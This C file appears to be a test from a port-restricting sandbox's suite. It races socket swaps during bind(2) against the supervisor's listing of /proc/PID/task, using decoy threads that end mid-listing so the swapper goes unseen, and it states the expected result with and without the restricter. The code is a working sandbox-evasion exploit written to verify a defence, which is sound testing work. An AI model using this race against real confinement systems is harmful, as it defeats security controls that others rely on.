/*
 * kind: attack
 *
 * The attack swaps the socket behind an fd while bind(2) is in progress: see
 * swap_sockets in probe.h. The swapper shares the file table with the caller, and is
 * the last of many threads. Some of the others end while the supervisor lists the
 * threads in /proc/PID/task. The kernel continues a listing by position, so it leaves
 * out a thread for each that has ended, and the swapper can be among those.
 *
 * Bare kernel: the internet socket is bound to the forbidden port.
 *
 * port-restricter: a list of threads counts only if it has as many threads as there
 * are afterwards. The forbidden port is never bound.
 */
#include "probe.h"
#include <linux/futex.h>

/* One read of 32 KiB returns PER_READ entries of /proc/PID/task. */
enum { PER_READ = 1022, THREADS = PER_READ + 5 };

static volatile int created, end_some;
static volatile struct { int caller, over; } *state;

static void *decoy(void *number)
{
	long i = (long)number;
	MUST(unshare(CLONE_FILES));
	__sync_fetch_and_add(&created, 1);
	if (!(i >= 5 && i < 25) && i < PER_READ - 3)
		for (;;)
			pause();
	while (!end_some)
		syscall(SYS_futex, &end_some, FUTEX_WAIT, 0, NULL, NULL, 0);
	return NULL;
}

static void *sharer(void *sockets)
{
	const struct swap *s = sockets;
	pid_t pid = MUST(syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
	if (pid == 0) {
		union addr a = loopback(AF_INET, FORBIDDEN);
		while (!state->over) {
			bind(SWAPPED, &a.any, sizeof a.in);
			no_harm(s->inet_fd);
		}
		_exit(0);
	}
	state->caller = pid;
	while (!state->over)
		swap_once(s);
	return NULL;
}

static void attempt(void)
{
	/*
	 * UDP, because the command line's second lock, Landlock, restricts binds of UDP only
	 * since its ABI 10.
	 */
	struct swap sockets = {sock(AF_UNIX, SOCK_DGRAM, 0), sock(AF_INET, SOCK_DGRAM, 0)};
	MUST(dup2(sockets.unix_fd, SWAPPED));
	for (long i = 1; i < THREADS; i++)
		thread(decoy, (void *)i);
	while (created < THREADS - 1)
		usleep(200);
	thread(sharer, &sockets);
	while (!state->caller)
		usleep(200);
	MUST(unshare(CLONE_FILES));
	usleep(1000 + rand() % 5000);
	end_some = 1;
	syscall(SYS_futex, &end_some, FUTEX_WAKE, 1 << 30, NULL, NULL, 0);
	usleep(10000);
	state->over = 1;
	join(state->caller);
	_exit(0);
}

int main(void)
{
	state = shared(sizeof *state);
	FOR_A_WHILE {
		state->caller = state->over = 0;
		int seed = rand();
		pid_t pid = child();
		if (pid == 0) {
			srand(seed);
			attempt();
		}
		join(pid);
	}
	return 0;
}
